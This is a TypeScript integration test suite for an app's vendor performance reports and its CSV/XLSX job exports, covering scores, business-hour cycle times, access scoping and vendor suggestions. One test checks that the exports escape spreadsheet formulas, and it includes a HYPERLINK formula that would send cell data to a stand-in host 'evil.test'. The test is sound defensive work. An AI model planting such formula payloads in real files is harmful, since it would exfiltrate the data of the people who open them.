/**
 * Vendor reports and exports over a hand-built history (jobs, step runs,
 * reviews and delay reasons written straight into the read model): every
 * figure of the report is computed by hand below (business hours under the
 * store-decoration calendar: Monday–Friday 09:00–18:00 in Asia/Shanghai, so
 * 00:00 UTC is 08:00 there). Then the exports (CSV with a
 * BOM, XLSX) are parsed back and compared, and the job export keeps each
 * caller's scope and field visibility.
 */
import request from 'supertest';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { Prisma } from '../../platform/db/prisma-types';
import { databaseKinds, startAppHarness, type AppHarness } from '../support/app-harness';
import { auth, publishSop, strictSop } from '../support/api-fixtures';

jest.setTimeout(180_000);

const t = (iso: string) => new Date(`2026-${iso}Z`);
const MARCH = 'from=2026-03-01T00:00:00Z&to=2026-04-01T00:00:00Z';

/** The body of a binary answer (supertest buffers it). */
const binary = (res: request.Request) => res.buffer(true).parse((r, done) => {
  const chunks: Buffer[] = [];
  r.on('data', (c: Buffer) => chunks.push(c));
  r.on('end', () => done(null, Buffer.concat(chunks)));
});

async function xlsxRows(body: Buffer): Promise<unknown[][]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  const rows: unknown[][] = [];
  workbook.worksheets[0]!.eachRow({ includeEmpty: false }, (row) => rows.push((row.values as unknown[]).slice(1)));
  return rows;
}

describe.each(databaseKinds())('on %s', (kind) => {
  let h: AppHarness;
  let manager: string;
  let vendorC: string;
  const id = (name: string) => `${kind}-${name}`;

  beforeAll(async () => {
    h = await startAppHarness(kind);
    manager = await h.login('manager');
    const prisma = h.test.db.prisma;
    const [a, b] = [h.ids.orgs['Vendor A']!, h.ids.orgs['Vendor B']!];
    vendorC = (await prisma.org.create({ data: { name: 'Vendor C', kind: 'vendor' } })).id;
    const { owner, qa } = h.ids.users;
    const job = (name: string, vendorOrgId: string, createdAt: string, completedAt?: string): Prisma.JobCreateManyInput => ({
      id: id(name), code: id(name), title: `Job ${name}`, sopKey: 'store-decoration', sopVersion: 1, vendorOrgId, ownerId: owner!, workflowId: `wf-${id(name)}`,
      status: completedAt ? 'completed' : 'running', createdAt: t(createdAt), completedAt: completedAt ? t(completedAt) : null, assignees: { owner: owner!, qa: qa! },
    });
    await prisma.job.createMany({
      data: [
        job('A0', a, '02-01T00:00:00', '02-02T00:00:00'), // February: 24 h, on time
        job('B0', b, '02-10T00:00:00', '02-13T00:00:00'), // February: 72 h, late
        job('A1', a, '03-01T00:00:00', '03-03T00:00:00'), // 48 h, reworked once; business: Sun 08:00 → Tue 08:00 = Monday's 9 h
        job('A2', a, '03-05T00:00:00', '03-06T00:00:00'), // 24 h; business: Thu 08:00 → Fri 08:00 = Thursday's 9 h
        job('A3', a, '03-10T00:00:00', '03-20T00:00:00'), // 240 h; business: Tue 10 08:00 → Fri 20 08:00 = 8 working days × 9 h = 72 h
        job('A4', a, '03-20T00:00:00'), // open, its task overdue
        job('B1', b, '03-15T00:00:00', '03-16T12:00:00'), // 36 h; business: Sun 08:00 → Mon 20:00 = Monday's 9 h
      ],
    });
    const task = (name: string, round: number, activated: string, due: string, completed?: string): Prisma.StepRunCreateManyInput => ({
      jobId: id(name), nodeId: 'draft', type: 'task', round, status: completed ? 'done' : 'active', activatedAt: t(activated), dueAt: t(due),
      completedAt: completed ? t(completed) : null, outcome: completed ? 'submitted' : null, assigneeRole: 'vendor',
    });
    await prisma.stepRun.createMany({
      data: [
        task('A0', 1, '02-01T00:00:00', '02-02T00:00:00', '02-01T12:00:00'),
        task('B0', 1, '02-10T00:00:00', '02-11T00:00:00', '02-12T00:00:00'),
        task('A1', 1, '03-01T00:00:00', '03-02T00:00:00', '03-01T12:00:00'), // on time (week 1)
        { jobId: id('A1'), nodeId: 'qa', type: 'review', round: 1, status: 'done', activatedAt: t('03-01T12:00:00'), dueAt: t('03-03T00:00:00'), completedAt: t('03-02T00:00:00'), outcome: 'rejected', assigneeRole: 'qa' },
        task('A1', 2, '03-02T00:00:00', '03-02T12:00:00', '03-02T18:00:00'), // late (week 1)
        task('A2', 1, '03-05T00:00:00', '03-06T00:00:00', '03-05T10:00:00'), // on time (week 1)
        task('A3', 1, '03-10T00:00:00', '03-11T00:00:00', '03-12T00:00:00'), // late (week 2)
        task('A4', 1, '03-20T00:00:00', '03-21T00:00:00'), // open, overdue
        task('B1', 1, '03-15T00:00:00', '03-16T00:00:00', '03-15T08:00:00'), // on time (week 3)
      ],
    });
    await prisma.review.create({ data: { jobId: id('A1'), nodeId: 'qa', round: 1, reviewerId: qa!, decision: 'rejected', reasons: ['WRONG_SIZE', 'TEXT_ERROR'], createdAt: t('03-02T00:00:00') } });
    const delay = (name: string, kindOf: 'deadline_moved' | 'late_completion', reason: string, at: string): Prisma.StepDelayCreateManyInput => ({
      jobId: id(name), nodeId: 'draft', round: 1, kind: kindOf, reason, actorId: owner!, createdAt: t(at),
    });
    await prisma.stepDelay.createMany({
      data: [
        delay('A1', 'deadline_moved', 'missing-material', '03-01T06:00:00'),
        delay('A3', 'deadline_moved', 'missing-material', '03-10T12:00:00'),
        delay('A3', 'late_completion', 'vendor-capacity', '03-13T00:00:00'),
        delay('B0', 'late_completion', 'holiday', '02-12T00:00:00'), // February: not in March's reasons
      ],
    });
  });
  afterAll(async () => {
    await h?.close();
  });

  const weeks = (rates: Array<[number | null, number]>) =>
    rates.map(([onTimeRate, due], i) => ({ weekStart: new Date(Date.UTC(2026, 2, 1 + 7 * i)).toISOString(), onTimeRate, due }));

  test('the March report ranks Vendor B (100.0) above Vendor A (54.4), each moved one place since February; Vendor C has no rank', async () => {
    const res = await request(h.app).get(`/api/reports/vendors?${MARCH}`).set(auth(manager));
    expect(res.status).toBe(200);
    expect(res.body).toEqual({
      from: '2026-03-01T00:00:00.000Z', to: '2026-04-01T00:00:00.000Z',
      previous: { from: '2026-01-29T00:00:00.000Z', to: '2026-03-01T00:00:00.000Z' },
      sop: null,
      weights: { onTime: 0.4, firstPass: 0.3, cycle: 0.2, rework: 0.1 },
      vendors: [
        {
          org: { id: h.ids.orgs['Vendor B'], name: 'Vendor B' },
          // February: on time 0/1, first pass 1, cycle 24/72, rework 1 → 100 × (0 + 0.3 + 0.0667 + 0.1) = 46.7, rank 2.
          rank: 1, previousRank: 2, rankChange: 1, score: 100, previousScore: 46.7, scoreChange: 53.3,
          onTime: { rate: 1, onTime: 1, due: 1 },
          cycleHours: { completed: 1, avg: 36, p90: 36, businessAvg: 9, businessP90: 9 },
          firstPass: { rate: 1, passed: 1, completed: 1 },
          rework: { rounds: 0, avgRounds: 0 },
          openLoad: { jobs: 0, steps: 0, overdueSteps: 0 },
          delayReasons: [], rejectionReasons: [],
          weekly: weeks([[null, 0], [null, 0], [1, 1], [null, 0], [null, 0]]),
        },
        {
          org: { id: h.ids.orgs['Vendor A'], name: 'Vendor A' },
          // 100 × (0.4 × 2/4 + 0.3 × 2/3 + 0.2 × 36/104 + 0.1 × 1/(1 + 1/3)) = 54.42; February: everything 1 → 100, rank 1.
          rank: 2, previousRank: 1, rankChange: -1, score: 54.4, previousScore: 100, scoreChange: -45.6,
          onTime: { rate: 0.5, onTime: 2, due: 4 },
          // 24, 48, 240 h: mean 104; p90 = 48 + 0.8 × (240 − 48) = 201.6. Business 9, 9, 72 h: mean 30; p90 = 9 + 0.8 × (72 − 9) = 59.4.
          cycleHours: { completed: 3, avg: 104, p90: 201.6, businessAvg: 30, businessP90: 59.4 },
          firstPass: { rate: 0.6667, passed: 2, completed: 3 },
          rework: { rounds: 1, avgRounds: 0.33 },
          openLoad: { jobs: 1, steps: 1, overdueSteps: 1 },
          delayReasons: [
            { code: 'missing-material', label: '素材缺失', count: 2 },
            { code: 'rework', label: '返工', count: 1 },
            { code: 'vendor-capacity', label: '供应商产能', count: 1 },
          ],
          rejectionReasons: [{ code: 'TEXT_ERROR', label: '文案错误', count: 1 }, { code: 'WRONG_SIZE', label: '尺寸不符', count: 1 }],
          weekly: weeks([[0.6667, 3], [0, 1], [null, 0], [null, 0], [null, 0]]),
        },
        {
          org: { id: vendorC, name: 'Vendor C' },
          rank: null, previousRank: null, rankChange: null, score: null, previousScore: null, scoreChange: null,
          onTime: { rate: null, onTime: 0, due: 0 },
          cycleHours: { completed: 0, avg: null, p90: null, businessAvg: null, businessP90: null },
          firstPass: { rate: null, passed: 0, completed: 0 },
          rework: { rounds: 0, avgRounds: null },
          openLoad: { jobs: 0, steps: 0, overdueSteps: 0 },
          delayReasons: [], rejectionReasons: [],
          weekly: weeks([[null, 0], [null, 0], [null, 0], [null, 0], [null, 0]]),
        },
      ],
    });
  });

  test('a report of another SOP counts nothing; vendors and QA are refused the report (403)', async () => {
    const other = await request(h.app).get(`/api/reports/vendors?${MARCH}&sop=no-such-sop`).set(auth(manager));
    expect(other.status).toBe(200);
    expect(other.body.vendors.map((v: { org: { name: string }; score: unknown; onTime: unknown; openLoad: unknown }) => [v.org.name, v.score, v.onTime, v.openLoad])).toEqual([
      ['Vendor A', null, { rate: null, onTime: 0, due: 0 }, { jobs: 0, steps: 0, overdueSteps: 0 }],
      ['Vendor B', null, { rate: null, onTime: 0, due: 0 }, { jobs: 0, steps: 0, overdueSteps: 0 }],
      ['Vendor C', null, { rate: null, onTime: 0, due: 0 }, { jobs: 0, steps: 0, overdueSteps: 0 }],
    ]);
    for (const who of ['vendor-a', 'qa'] as const) {
      const res = await request(h.app).get(`/api/reports/vendors?${MARCH}`).set(auth(await h.login(who)));
      expect([who, res.status, res.body.type]).toEqual([who, 403, 'urn:sop:problem:forbidden']);
    }
  });

  const REPORT_ROWS = [
    ['排名', '供应商', '综合得分', '排名变化', '准时率', '准时', '有期限', '完成任务数', '平均周期（小时）', 'P90 周期（小时）', '平均工作时周期（小时）', 'P90 工作时周期（小时）',
      '一次通过率', '返工轮次', '进行中任务', '进行中步骤', '逾期步骤', '主要延误原因', '主要驳回原因'],
    [1, 'Vendor B', 100, 1, 1, 1, 1, 1, 36, 36, 9, 9, 1, 0, 0, 0, 0, null, null],
    [2, 'Vendor A', 54.4, -1, 0.5, 2, 4, 3, 104, 201.6, 30, 59.4, 0.6667, 1, 1, 1, 1, '素材缺失 ×2; 返工 ×1; 供应商产能 ×1', '文案错误 ×1; 尺寸不符 ×1'],
    [null, 'Vendor C', null, null, null, 0, 0, 0, null, null, null, null, null, 0, 0, 0, 0, null, null],
  ];

  test('the report as CSV: UTF-8 with a byte order mark, an attachment named for the window, the same figures', async () => {
    const res = await binary(request(h.app).get(`/api/reports/vendors?${MARCH}&format=csv`).set(auth(manager)));
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="vendor-report-2026-03-01-2026-03-31.csv"; filename*=UTF-8\'\'vendor-report-2026-03-01-2026-03-31.csv');
    const body = res.body as Buffer;
    expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parse(body.toString('utf8'), { bom: true }) as string[][];
    expect(rows).toEqual(REPORT_ROWS.map((row) => row.map((c) => (c === null ? '' : String(c)))));
  });

  test('the report as XLSX: one sheet, the same rows with numbers as numbers', async () => {
    const res = await binary(request(h.app).get(`/api/reports/vendors?${MARCH}&format=xlsx`).set(auth(manager)));
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const rows = await xlsxRows(res.body as Buffer);
    // exceljs reads an empty cell back as a hole in the row array: compare with the holes as undefined.
    const holes = REPORT_ROWS.map((row) => { const r = row.map((c) => (c === null ? undefined : c)); while (r.at(-1) === undefined) r.pop(); return r; });
    expect(rows.map((r) => Array.from(r))).toEqual(holes);
  });

  describe('the job export', () => {
    beforeAll(async () => {
      // Two cancelled jobs of an SOP with declared fields (budget and contract for owners; priority for everyone): outside the report's figures.
      await publishSop(h, strictSop(`export-${kind}`));
      const { owner } = h.ids.users;
      const job = (name: string, vendor: string, createdAt: string): Prisma.JobCreateManyInput => ({
        id: id(name), code: id(name), title: `导出 ${name}`, sopKey: `export-${kind}`, sopVersion: 1, vendorOrgId: h.ids.orgs[vendor]!, ownerId: owner!, workflowId: `wf-${id(name)}`,
        status: 'cancelled', createdAt: t(createdAt), fields: { budget: 5000, contractNo: `HT-${name}`, priority: 'high' },
      });
      await h.test.db.prisma.job.createMany({ data: [job('EA', 'Vendor A', '04-01T00:00:00'), job('EB', 'Vendor B', '04-02T00:00:00')] });
    });

    const BASE = ['Code', 'Title', 'Status', 'SOP', 'SOP version', 'Vendor', 'Created (Asia/Shanghai)', 'Completed (Asia/Shanghai)', 'Active steps'];
    const BASE_ZH = ['编号', '标题', '状态', 'SOP', 'SOP 版本', '供应商', '创建时间（Asia/Shanghai）', '完成时间（Asia/Shanghai）', '进行中的步骤'];
    const csvOf = async (token: string, query = '') => {
      const res = await binary(request(h.app).get(`/api/jobs/export?format=csv${query}`).set(auth(token)));
      expect(res.status).toBe(200);
      return parse((res.body as Buffer).toString('utf8'), { bom: true }) as string[][];
    };

    test('an owner exports every job, newest first, with every declared field; times in the owner\'s zone', async () => {
      const rows = await csvOf(await h.login('owner'));
      expect(rows[0]).toEqual([...BASE_ZH, '预算', '合同号', '优先级']);
      expect(rows.slice(1).map((r) => r[0])).toEqual(['EB', 'EA', 'A4', 'B1', 'A3', 'A2', 'A1', 'B0', 'A0'].map(id));
      expect(rows[1]).toEqual([id('EB'), '导出 EB', 'cancelled', `export-${kind}`, '1', 'Vendor B', '2026-04-02 08:00:00', '', '', '5000', 'HT-EB', 'high']);
      expect(rows[3]).toEqual([id('A4'), 'Job A4', 'running', 'store-decoration', '1', 'Vendor A', '2026-03-20 08:00:00', '', '外包方提交设计稿', '', '', '']);
    });

    test('a vendor\'s export holds only its organisation\'s jobs and only the fields shown to vendors', async () => {
      const rows = await csvOf(await h.login('vendor-a'));
      expect(rows[0]).toEqual([...BASE_ZH, '优先级']);
      expect(rows.slice(1).map((r) => [r[0], r[5], r.at(-1)])).toEqual([
        [id('EA'), 'Vendor A', 'high'], [id('A4'), 'Vendor A', ''], [id('A3'), 'Vendor A', ''], [id('A2'), 'Vendor A', ''], [id('A1'), 'Vendor A', ''], [id('A0'), 'Vendor A', ''],
      ]);
      expect(rows.flat().join('|')).not.toContain('Vendor B');
      expect(rows.flat().join('|')).not.toContain('HT-EA');
    });

    test('filters are those of GET /api/jobs; the XLSX export has the same rows as the CSV', async () => {
      const manager2 = await h.login('manager');
      const csv = await csvOf(manager2, `&vendorOrgId=${h.ids.orgs['Vendor B']}&status=completed`);
      expect(csv.slice(1).map((r) => r[0])).toEqual([id('B1'), id('B0')]);
      const res = await binary(request(h.app).get(`/api/jobs/export?format=xlsx&vendorOrgId=${h.ids.orgs['Vendor B']}&status=completed`).set(auth(manager2)));
      expect(res.headers['content-disposition']).toMatch(/^attachment; filename="jobs-\d{4}-\d{2}-\d{2}\.xlsx"; filename\*=UTF-8''jobs-/);
      const rows = await xlsxRows(res.body as Buffer);
      expect(rows.map((r) => Array.from(r, (c) => (c === undefined ? '' : String(c))))).toEqual(csv.map((r) => { const x = [...r]; while (x.at(-1) === '') x.pop(); return x; }));
      const search = await request(h.app).get('/api/jobs/export?q=a').set(auth(manager2));
      expect([search.status, search.body.type]).toEqual([422, 'urn:sop:problem:search-word-too-short']);
    });

    test('a vendor asking for another vendor\'s jobs gets the header row only', async () => {
      const rows = await csvOf(await h.login('vendor-a'), `&vendorOrgId=${h.ids.orgs['Vendor B']}`);
      expect(rows).toEqual([BASE_ZH]); // no job in scope: not even the field columns of its SOP
    });

    test('2,500 jobs created at the same instant come out once each across keyset pages of 1,000, in (createdAt, id) order', async () => {
      await h.test.db.query(
        `INSERT INTO "Job" (id, code, title, "sopKey", "sopVersion", "vendorOrgId", "ownerId", "workflowId", status, "createdAt", "updatedAt")
         SELECT $1 || '-P' || lpad(i::text, 4, '0'), $1 || '-P' || lpad(i::text, 4, '0'), 'paged', $2, 1, $3, $4, 'wf-' || $1 || '-P' || i, 'failed', '2026-05-01T00:00:00Z', now()
           FROM generate_series(1, 2500) AS i`,
        [kind, `export-${kind}`, h.ids.orgs['Vendor A'], h.ids.users.owner],
      );
      const rows = await csvOf(await h.login('owner'), '&status=failed');
      const codes = rows.slice(1).map((r) => r[0]);
      expect(codes.length).toBe(2500);
      expect(codes).toEqual(Array.from({ length: 2500 }, (_, i) => `${kind}-P${String(2500 - i).padStart(4, '0')}`));
    });

    test('English callers get English headers', async () => {
      const prisma = h.test.db.prisma;
      await prisma.user.update({ where: { id: h.ids.users.procurement! }, data: { locale: 'en' } });
      const rows = await csvOf(await h.login('procurement'), '&status=cancelled');
      expect(rows[0]).toEqual([...BASE, '预算', '合同号', '优先级']);
      expect(rows.slice(1).map((r) => r[0])).toEqual([id('EB'), id('EA')]);
    });

    test('text a spreadsheet would run as a formula (= + - @) is exported as text: an apostrophe first in CSV, a string cell in XLSX', async () => {
      const formula = '=HYPERLINK("http://evil.test/?d="&B2,"Open")';
      await h.test.db.prisma.job.create({
        data: { id: id('FX'), code: id('FX'), title: formula, sopKey: `export-${kind}`, sopVersion: 1, vendorOrgId: h.ids.orgs['Vendor A']!, ownerId: h.ids.users.owner!, workflowId: `wf-${id('FX')}`, status: 'stuck', fields: { contractNo: '@SUM(1+1)', priority: '-2+3' } },
      });
      const owner = await h.login('owner');
      const rows = await csvOf(owner, '&status=stuck');
      expect(rows.slice(1).map((r) => [r[0], r[1], r[10], r[11]])).toEqual([[id('FX'), `'${formula}`, `'@SUM(1+1)`, `'-2+3`]]);
      const res = await binary(request(h.app).get('/api/jobs/export?format=xlsx&status=stuck').set(auth(owner)));
      const xlsx = await xlsxRows(res.body as Buffer);
      expect(xlsx[1]?.[1]).toBe(formula); // a plain string cell, never a formula
    });
  });

  test('vendor suggestions for a new job of the SOP: the on-time probability from the last 180 days (Beta(1,1) posterior mean), best first, the best with history suggested', async () => {
    const day = 86_400_000;
    const ago = (days: number) => new Date(Date.now() - days * day);
    // Two recent jobs (cancelled: no open load), each with two finished vendor rounds: B's both on time, A's one late.
    const { owner } = h.ids.users;
    await h.test.db.prisma.job.createMany({
      data: (['RA', 'RB'] as const).map((name) => ({
        id: id(name), code: id(name), title: `Recent ${name}`, sopKey: 'store-decoration', sopVersion: 1, vendorOrgId: h.ids.orgs[name === 'RA' ? 'Vendor A' : 'Vendor B']!,
        ownerId: owner!, workflowId: `wf-${id(name)}`, status: 'cancelled' as const, createdAt: ago(13),
      })),
    });
    const recent = (job: string, round: number, late: boolean): Prisma.StepRunCreateManyInput => ({
      jobId: id(job), nodeId: 'draft', type: 'task', round, status: 'done', activatedAt: ago(12), dueAt: ago(10), completedAt: late ? ago(9) : ago(11), outcome: 'submitted', assigneeRole: 'vendor',
    });
    await h.test.db.prisma.stepRun.createMany({ data: [recent('RB', 1, false), recent('RB', 2, false), recent('RA', 1, false), recent('RA', 2, true)] });
    const res = await request(h.app).get('/api/sops/store-decoration/vendor-suggestions').set(auth(await h.login('owner')));
    expect(res.status).toBe(200);
    const items = res.body.items as Array<{ org: { name: string }; onTime: { probability: number; onTime: number; due: number; basis: string }; openLoad: { steps: number; overdueSteps: number }; suggested: boolean }>;
    expect(items.map((i) => [i.org.name, i.onTime, i.suggested])).toEqual([
      ['Vendor B', { probability: 0.75, onTime: 2, due: 2, basis: 'sop', source: 'history' }, true],
      ['Vendor A', { probability: 0.5, onTime: 1, due: 2, basis: 'sop', source: 'history' }, false],
      ['Vendor C', { probability: 0.5, onTime: 0, due: 0, basis: 'none', source: 'history' }, false],
    ]);
    expect(items[1]!.openLoad).toMatchObject({ steps: 1, overdueSteps: 1 }); // A4's task, open and overdue
    expect((await request(h.app).get('/api/sops/no-such-sop/vendor-suggestions').set(auth(manager))).status).toBe(404);
    expect((await request(h.app).get('/api/sops/store-decoration/vendor-suggestions').set(auth(await h.login('vendor-a')))).status).toBe(403);
  });

  test('a job handed from Vendor A to Vendor B: each step, delay reason and rejection counts for the organisation that did the work; the job itself (cycle, business hours) for B', async () => {
    // June 2025 (Sunday 1 June to 1 July, 5 weeks): nothing else of this file lies in it or in May before it.
    // Last in the file: the job export above lists every job, these two would join its rows.
    const prisma = h.test.db.prisma;
    const [a, b] = [h.ids.orgs['Vendor A']!, h.ids.orgs['Vendor B']!];
    const { owner, qa } = h.ids.users;
    const at = (iso: string) => new Date(`2025-${iso}Z`);
    // H1: created Mon 2 Jun 10:00 in Shanghai, completed Fri 6 Jun 15:30 there; now Vendor B's (handed over after round 1).
    // Calendar 4 days 5.5 h = 101.5 h; business Mon 10–18 (8) + Tue, Wed, Thu (27) + Fri 09:00–15:30 (6.5) = 41.5 h.
    // H2: Vendor B's, cancelled (no job-level figure); its rounds carry no submission, only an assigned user.
    await prisma.job.createMany({
      data: [
        { id: id('H1'), code: id('H1'), title: 'Handed over', sopKey: 'store-decoration', sopVersion: 1, vendorOrgId: b, ownerId: owner!, workflowId: `wf-${id('H1')}`, status: 'completed', createdAt: at('06-02T02:00:00'), completedAt: at('06-06T07:30:00') },
        { id: id('H2'), code: id('H2'), title: 'Assigned', sopKey: 'store-decoration', sopVersion: 1, vendorOrgId: b, ownerId: owner!, workflowId: `wf-${id('H2')}`, status: 'cancelled', createdAt: at('06-09T01:00:00') },
      ],
    });
    const draft = (job: string, round: number, activated: string, due: string, completed: string, assigneeUserId?: string): Prisma.StepRunCreateManyInput => ({
      jobId: id(job), nodeId: 'draft', type: 'task', round, status: 'done', activatedAt: at(activated), dueAt: at(due), completedAt: at(completed), outcome: 'submitted', assigneeRole: 'vendor', assigneeUserId: assigneeUserId ?? null,
    });
    await prisma.stepRun.createMany({
      data: [
        draft('H1', 1, '06-02T02:00:00', '06-03T02:00:00', '06-02T08:00:00'), // on time, submitted by Vendor A (week 1)
        { jobId: id('H1'), nodeId: 'qa', type: 'review', round: 1, status: 'done', activatedAt: at('06-02T08:00:00'), dueAt: at('06-03T08:00:00'), completedAt: at('06-03T02:00:00'), outcome: 'rejected', assigneeRole: 'qa' },
        draft('H1', 2, '06-03T02:00:00', '06-04T02:00:00', '06-05T02:00:00'), // late, submitted by Vendor B (week 1)
        { jobId: id('H1'), nodeId: 'qa', type: 'review', round: 2, status: 'done', activatedAt: at('06-05T02:00:00'), dueAt: at('06-06T02:00:00'), completedAt: at('06-05T06:00:00'), outcome: 'approved', assigneeRole: 'qa' },
        draft('H2', 1, '06-09T01:00:00', '06-10T01:00:00', '06-10T00:00:00', h.ids.users['vendor-a']), // on time, a Vendor A user assigned (week 2)
        draft('H2', 2, '06-10T01:00:00', '06-11T00:00:00', '06-11T05:00:00', owner), // late, an internal user assigned: the job's vendor, B (week 2)
      ],
    });
    await prisma.submission.createMany({
      data: [
        { jobId: id('H1'), nodeId: 'draft', round: 1, submittedById: h.ids.users['vendor-a']!, createdAt: at('06-02T08:00:00') },
        { jobId: id('H1'), nodeId: 'draft', round: 2, submittedById: h.ids.users['vendor-b']!, createdAt: at('06-05T02:00:00') },
      ],
    });
    await prisma.review.createMany({
      data: [
        { jobId: id('H1'), nodeId: 'qa', round: 1, reviewerId: qa!, decision: 'rejected', reasons: ['WRONG_SIZE'], createdAt: at('06-03T02:00:00') }, // rejects A's round 1
        { jobId: id('H1'), nodeId: 'qa', round: 2, reviewerId: qa!, decision: 'approved', reasons: [], createdAt: at('06-05T06:00:00') },
      ],
    });
    await prisma.stepDelay.createMany({
      data: [
        { jobId: id('H1'), nodeId: 'draft', round: 1, kind: 'deadline_moved', reason: 'missing-material', actorId: owner!, createdAt: at('06-02T04:00:00') }, // A's round
        { jobId: id('H1'), nodeId: 'draft', round: 2, kind: 'deadline_moved', reason: 'vendor-capacity', actorId: owner!, createdAt: at('06-03T04:00:00') }, // B's round
      ],
    });
    const res = await request(h.app).get('/api/reports/vendors?from=2025-06-01T00:00:00Z&to=2025-07-01T00:00:00Z').set(auth(manager));
    expect(res.status).toBe(200);
    const june = (rates: Array<[number | null, number]>) =>
      rates.map(([onTimeRate, due], i) => ({ weekStart: new Date(Date.UTC(2025, 5, 1 + 7 * i)).toISOString(), onTimeRate, due }));
    type Row = { org: { name: string }; rank: number | null; score: number | null; onTime: unknown; cycleHours: unknown; weekly: unknown; delayReasons: unknown; rejectionReasons: unknown };
    expect((res.body.vendors as Row[]).map((v) => [v.org.name, v.rank, v.score, v.onTime, v.cycleHours, v.weekly, v.delayReasons, v.rejectionReasons])).toEqual([
      // A: on time only (2/2) → 100.
      ['Vendor A', 1, 100, { rate: 1, onTime: 2, due: 2 }, { completed: 0, avg: null, p90: null, businessAvg: null, businessP90: null },
        june([[1, 1], [1, 1], [null, 0], [null, 0], [null, 0]]),
        [{ code: 'missing-material', label: '素材缺失', count: 1 }, { code: 'rework', label: '返工', count: 1 }],
        [{ code: 'WRONG_SIZE', label: '尺寸不符', count: 1 }]],
      // B: on time 0/2, first pass 0/1, cycle 1 (the only one), rework 1 ÷ (1 + 1) → 100 × (0.2 × 1 + 0.1 × 0.5) = 25.
      ['Vendor B', 2, 25, { rate: 0, onTime: 0, due: 2 }, { completed: 1, avg: 101.5, p90: 101.5, businessAvg: 41.5, businessP90: 41.5 },
        june([[0, 1], [0, 1], [null, 0], [null, 0], [null, 0]]),
        [{ code: 'vendor-capacity', label: '供应商产能', count: 1 }],
        []],
      ['Vendor C', null, null, { rate: null, onTime: 0, due: 0 }, { completed: 0, avg: null, p90: null, businessAvg: null, businessP90: null },
        june([[null, 0], [null, 0], [null, 0], [null, 0], [null, 0]]), [], []],
    ]);
  });
});
